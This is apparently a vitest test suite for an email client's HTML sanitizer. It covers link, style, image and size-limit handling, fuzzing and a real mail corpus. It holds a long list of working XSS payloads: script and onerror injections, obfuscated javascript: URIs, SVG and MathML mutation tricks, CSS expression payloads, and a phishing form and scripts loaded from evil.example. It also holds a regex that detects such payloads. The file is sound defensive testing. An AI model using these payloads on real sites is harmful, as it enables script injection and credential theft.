import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { parseMail } from '#channels/email/parse.ts';
import {
  DATA_IMAGE_MAX_CHARS,
  MAIL_HTML_MAX_CHARS,
  MAX_PARSE_DEPTH,
  sanitizeMailHtml,
  sanitizeStyle,
} from '#channels/email/sanitize-html.ts';

const safeTags = new Set(
  'a abbr address b big blockquote br caption center cite code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr'.split(
    ' ',
  ),
);
const safeAttributes = new Set(
  'title dir lang align alt width height border color face size start type value cellpadding cellspacing bgcolor colspan rowspan valign nowrap span style class id href target rel src data-blocked-src'.split(
    ' ',
  ),
);

/**
 * Reads the sanitizer's output the way a browser would and lists everything that should not
 * be there: an element or attribute outside the allowlist, a link or image source with
 * another scheme, CSS that can load or run anything, a comment.
 */
function hazards(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!safeTags.has(name)) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (!safeAttributes.has(attribute)) found.push(`${name}[${attribute}]`);
          if (attribute === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href=${value}`);
          if (
            attribute === 'src' &&
            !/^(https:\/\/files\.example\/|data:image\/(png|jpeg|gif|webp);)/.test(value)
          )
            found.push(`src=${value}`);
          if (
            /javascript|vbscript|expression|url\(|@import|behavior|binding/i.test(value) &&
            attribute !== 'title'
          )
            found.push(`${attribute}=${value}`);
        }
      },
      oncomment: (data) => found.push(`<!--${data}-->`),
      onprocessinginstruction: (name) => found.push(`<${name}>`),
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

const sanitize = (html: string) =>
  sanitizeMailHtml(html, { inlineImages: { 'logo@acme.example': 'https://files.example/logo' } });

describe('sanitizeMailHtml against XSS vectors', () => {
  const vectors = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>script>alert(1)//<</script>/script>',
    '<img src=x onerror=alert(1)>',
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<img src=`javascript:alert(1)`>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<img src="x" onerror\n=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="x.swf">',
    '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/phish"><input name=p type=password><button formaction="javascript:alert(1)">Go</button></form>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="color: red; behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
    '<div style="color:\\65xpression(alert(1))">x</div>',
    '<div style="font-family: a/**/; color: expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">phish</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<title><img src=x onerror=alert(1)></title>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<!--<img src=x onerror=alert(1)>-->',
    '<!-- <!-- nested --> <img src=x onerror=alert(1)> -->',
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><x:script>alert(1)</x:script>',
    '<div><b>unclosed <i>tags <a href="https://ok.example">link',
    '<a href="https://ok.example/" <img src=x onerror=alert(1)>x</a>',
    '<img src="https://files.example/x" onerror=alert(1)',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<body onload=alert(1)><div id="x" class="hidden admin">x</div>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<a href="https://ok.example" target="_self" rel="opener">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="https://evil.example/x.png 1x" src="cid:logo@acme.example">',
    '<p>ok</p>\u0000<scr\u0000ipt>alert(1)</script>',
  ];

  it('has a hazard check that sees hazards', () => {
    expect(hazards('<script></script><a href="javascript:x" onclick=1><!--c-->')).toEqual([
      '<script>',
      'href=javascript:x',
      'href=javascript:x',
      'a[onclick]',
      '<!--c-->',
    ]);
  });

  it.each(vectors)('renders %j inert', (vector) => {
    const { html } = sanitize(vector);

    expect(hazards(html)).toEqual([]);
    expect(html).not.toMatch(/<(script|svg|math|iframe|style|base|meta|form|input|object|embed|link)\b/i);
  });

  it('keeps the text around what it removes', () => {
    expect(sanitize('<p>Dear <b>Emma</b>,<script>x()</script> thanks</p>').html).toBe(
      '<p>Dear <b>Emma</b>, thanks</p>',
    );
  });

  it('escapes text and attributes it writes back', () => {
    const { html } = sanitize('<p title="a&quot;b<c>">1 &lt; 2 &amp;&amp; 3 &gt; 2</p>');

    expect(html).toBe('<p title="a&quot;b&lt;c&gt;">1 &lt; 2 &amp;&amp; 3 &gt; 2</p>');
  });

  it('turns the split script trick into harmless text', () => {
    expect(sanitize('<scr<script>ipt>alert(1)</script>').html).toBe('ipt&gt;alert(1)');
  });

  it('closes what was left open and drops stray closing tags', () => {
    expect(sanitize('<div><b>x<i>y</div>z</u></table>').html).toBe('<div><b>x<i>y</i></b></div>z');
  });

  it('drops event handlers, ids and classes but keeps harmless presentation', () => {
    const { html } = sanitize(
      '<table border=0 cellpadding=4 onmouseover=x><tr><td bgcolor="#ffeecc" colspan=2 class="x" id="y">x</td></tr></table><font color=red face="Arial" size=2>f</font>',
    );

    expect(html).toBe(
      '<table border="0" cellpadding="4"><tr><td bgcolor="#ffeecc" colspan="2">x</td></tr></table><font color="red" face="Arial" size="2">f</font>',
    );
  });

  it('keeps the markers of quoted history for splitHtmlReply', () => {
    const { html } = sanitize(
      '<div class="gmail_quote x"><blockquote type="cite" cite="mid:1">q</blockquote></div><div id="divRplyFwdMsg">h</div>',
    );

    expect(html).toBe(
      '<div class="gmail_quote"><blockquote type="cite">q</blockquote></div><div id="divRplyFwdMsg">h</div>',
    );
  });
});

describe('links', () => {
  it('keeps http, https and mailto links and opens them in a new, unrelated context', () => {
    const { html } = sanitize(
      '<a href="https://acme.example/a?b=1&amp;c=2">one</a><a href="mailto:help@acme.example">two</a>',
    );

    expect(html).toBe(
      '<a href="https://acme.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">one</a>' +
        '<a href="mailto:help@acme.example" target="_blank" rel="noopener noreferrer nofollow">two</a>',
    );
  });

  it('writes back the URL it checked, with the characters browsers ignore removed', () => {
    const { html } = sanitize('<a href=" \thttps://acme.example/pa\nth ">x</a>');

    expect(html).toContain('href="https://acme.example/path"');
  });

  it('keeps the text of a link whose target is refused', () => {
    expect(sanitize('<a href="javascript:alert(1)">click</a>').html).toBe('<a>click</a>');
  });
});

describe('styles', () => {
  it('keeps allowlisted properties with plain values', () => {
    expect(sanitizeStyle('COLOR: #1F497D; font-family: "Calibri", sans-serif; font-size:11pt')).toBe(
      'color: #1F497D; font-family: "Calibri", sans-serif; font-size: 11pt',
    );
    expect(sanitizeStyle('background-color: rgb(255, 238, 204)')).toBe(
      'background-color: rgb(255, 238, 204)',
    );
  });

  it.each([
    'width: expression(alert(1))',
    'background: url(https://tracker.example/p.gif)',
    'background-image: url(javascript:alert(1))',
    'color: \\72 ed',
    'color: red /* x */',
    'position: fixed',
    'display: none',
    'color: var(--x)',
    'margin-top: -500px',
    'font-family: "unbalanced',
    'color: red !important',
  ])('refuses %j', (style) => {
    expect(sanitizeStyle(style)).toBeUndefined();
  });
});

describe('images', () => {
  it('rewrites known cid references, with or without angle brackets or case', () => {
    const { html } = sanitizeMailHtml(
      '<img src="cid:Logo@Acme.example" alt="Logo"><img src="cid:%3Cchart%3E">',
      {
        inlineImages: { '<logo@acme.example>': 'https://files.example/logo', chart: '/attachments/42' },
      },
    );

    expect(html).toBe('<img alt="Logo" src="https://files.example/logo"><img src="/attachments/42">');
  });

  it('removes images whose cid is unknown', () => {
    expect(sanitize('<p>a<img src="cid:missing@x">b</p>').html).toBe('<p>ab</p>');
  });

  it('blocks and counts remote images by default, keeping their address for "show images"', () => {
    const result = sanitize(
      '<img src="https://tracker.example/open.gif?u=1&amp;m=2" width="1" height="1"><img src="http://cdn.example/banner.png">',
    );

    expect(result.blockedRemoteImages).toBe(2);
    expect(result.html).toBe(
      '<img width="1" height="1" data-blocked-src="https://tracker.example/open.gif?u=1&amp;m=2"><img data-blocked-src="http://cdn.example/banner.png">',
    );
  });

  it('keeps remote images when asked to', () => {
    const result = sanitizeMailHtml('<img src="https://cdn.example/banner.png">', {
      allowRemoteImages: true,
    });

    expect(result).toEqual({
      html: '<img src="https://cdn.example/banner.png">',
      blockedRemoteImages: 0,
      truncated: false,
    });
  });

  it.each(['png', 'jpeg', 'gif', 'webp'])('allows data: images of type %s', (type) => {
    expect(sanitize(`<img src="data:image/${type};base64,R0lGODlh AQAB">`).html).toBe(
      `<img src="data:image/${type};base64,R0lGODlhAQAB">`,
    );
  });

  it.each([
    'data:image/svg+xml;base64,PHN2Zz4=',
    'data:text/html;base64,PHN2Zz4=',
    'data:image/png,<svg>',
    'data:image/png;base64,!!!',
    `data:image/png;base64,${'A'.repeat(DATA_IMAGE_MAX_CHARS + 4)}`,
    'ftp://files.example/x.png',
    'x.png',
  ])('removes image sources like %s', (src) => {
    expect(sanitize(`<img src="${src}">`).html).toBe('');
  });
});

describe('limits', () => {
  it('cuts input over the cap and still closes every element', () => {
    const html = `<div><p>${'x'.repeat(MAIL_HTML_MAX_CHARS)}</p></div>`;

    const result = sanitize(html);

    expect(result.truncated).toBe(true);
    expect(result.html.endsWith('</p></div>')).toBe(true);
  });

  it('does not split a surrogate pair at the cut', () => {
    const html = `${'x'.repeat(MAIL_HTML_MAX_CHARS - 1)}😀`;

    expect(sanitize(html).html).not.toMatch(/[\ud800-\udbff]$/);
  });

  it('stops, quickly, at a flood of unclosed elements and says it cut the input', () => {
    const started = performance.now();

    const result = sanitize(`<p>kept</p>${'<b>'.repeat(MAX_PARSE_DEPTH * 300)}lost`);

    expect(performance.now() - started).toBeLessThan(2000);
    expect(result.truncated).toBe(true);
    expect(result.html.startsWith('<p>kept</p><b><b>')).toBe(true);
    expect(result.html).not.toContain('lost');
  });

  it('flattens absurd nesting instead of echoing it', () => {
    const { html } = sanitize(`${'<div>'.repeat(1000)}deep${'</div>'.repeat(1000)}`);

    expect(html.match(/<div>/g)?.length).toBeLessThanOrEqual(256);
    expect(html).toContain('deep');
  });
});

describe('sanitizeMailHtml on generated markup', () => {
  const fragment = fc.constantFrom(
    '<',
    '>',
    '</',
    '/>',
    '"',
    "'",
    '=',
    ' ',
    '\t',
    '\n',
    '\0',
    '&',
    '&#',
    '&#x09;',
    '&colon;',
    '&quot;',
    '<!--',
    '-->',
    '--!>',
    '<![CDATA[',
    ']]>',
    'script',
    'SCRIPT',
    'style',
    'svg',
    'math',
    'iframe',
    'noscript',
    'xmp',
    'textarea',
    'title',
    'img',
    'a',
    'p',
    'div',
    'table',
    'td',
    'blockquote',
    'src',
    'href',
    'style',
    'onerror',
    'onload',
    'javascript:',
    'java\tscript:',
    'data:image/png;base64,AAAA',
    'data:text/html,',
    'https://x.example/',
    'cid:logo@acme.example',
    'alert(1)',
    'expression(',
    'url(',
    'background',
    'color:red',
  );
  const markup = fc.array(fragment, { maxLength: 60 }).map((parts) => parts.join(''));

  it('never emits anything outside the allowlist', () => {
    fc.assert(
      fc.property(markup, (html) => {
        expect(hazards(sanitize(html).html)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('is stable: sanitizing its own output changes nothing', () => {
    fc.assert(
      fc.property(markup, (html) => {
        const once = sanitizeMailHtml(html, { allowRemoteImages: true }).html;
        expect(sanitizeMailHtml(once, { allowRemoteImages: true }).html).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });
});

const corpusDir = resolve(
  import.meta.dirname,
  '../..',
  process.env.SPOKE_MAIL_CORPUS ?? '../shared/corpus/mail',
);
const corpusPresent = existsSync(corpusDir) && statSync(corpusDir).isDirectory();

describe('sanitizeMailHtml on the HTML of the real-world mail corpus', () => {
  it('sanitizes every HTML body to inert markup without throwing', async (ctx) => {
    if (!corpusPresent) {
      if (process.env.CI === 'true') expect.fail(`CI=true and the mail corpus is missing at ${corpusDir}`);
      ctx.skip(`mail corpus not found at ${corpusDir}`);
      return;
    }
    const files = readdirSync(corpusDir, { recursive: true, encoding: 'utf8' }).filter((f) =>
      f.endsWith('.eml'),
    );
    let bodies = 0;
    for (const file of files) {
      const mail = await parseMail(new Uint8Array(readFileSync(resolve(corpusDir, file)))).catch(
        () => undefined,
      );
      if (!mail?.html) continue;
      bodies += 1;
      expect(hazards(sanitize(mail.html).html), file).toEqual([]);
    }
    expect(bodies).toBeGreaterThan(0);
  });
});
